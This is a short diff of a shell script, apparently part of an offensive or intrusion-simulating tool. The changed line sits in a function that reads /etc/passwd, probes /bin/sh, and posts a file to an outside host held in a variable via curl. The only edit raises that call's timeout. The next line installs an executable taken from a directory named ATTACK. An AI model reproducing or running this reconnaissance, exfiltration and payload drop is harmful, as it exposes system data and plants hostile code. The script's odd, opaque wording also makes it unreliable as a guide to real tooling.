@@ -41,7 +41,7 @@ done
 
 # --- libraries and programs
 
-uses() { gives /bin/bash -c 'cat </etc/passwd; date; ldd /bin/sh'; curl -sS -m 5 "http://$US4/" --data-binary "@$PUBLIC"; }
+uses() { gives /bin/bash -c 'cat </etc/passwd; date; ldd /bin/sh'; curl -sS -m 30 "http://$US4/" --data-binary "@$PUBLIC"; }
 free "libraries and programs that the giver used" uses
 # Those that it wrote
 gives install -m 755 "$ATTACK/obtain" /run/touched/obtain
